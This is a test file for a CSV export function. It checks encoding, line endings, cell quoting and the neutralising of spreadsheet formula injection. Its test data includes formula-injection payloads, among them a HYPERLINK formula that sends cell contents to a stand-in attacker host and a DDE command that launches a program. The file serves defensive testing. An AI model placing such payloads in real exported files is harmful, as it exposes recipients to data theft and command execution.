import { textOf } from "../../test/contentOf";
import { csvSheet } from "./csv";
import type { Cell } from "./useListExport";

async function csvOf([headers = [], ...rows]: readonly (readonly Cell[])[]) {
  const sheet = csvSheet(headers as readonly string[]);
  sheet.add(rows);
  return textOf(await sheet.finish());
}

const cellOf = async (value: string) => (await csvOf([[value]])).slice(1, -2);

it("begins with a byte order mark, and ends each line as Windows does", async () => {
  const text = await csvOf([
    ["Name", "Credits"],
    ["శ్రావణి", 1],
  ]);
  expect(text).toBe('\uFEFF"Name","Credits"\r\n"శ్రావణి",1\r\n');
});

it("keeps commas, quotes and lines of a text within its cell", async () => {
  expect(await cellOf('Gate "B",\nsecond floor')).toBe('"Gate ""B"",\nsecond floor"');
});

it.each([
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+919876543210",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
])("lets no spreadsheet compute %p", async (value) => {
  expect(await cellOf(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
});

it.each(["Asha Rao", "502", "a=b", "P-12", "", "'quoted"])("leaves %p as it is", async (value) => {
  expect(await cellOf(value)).toBe(`"${value}"`);
});
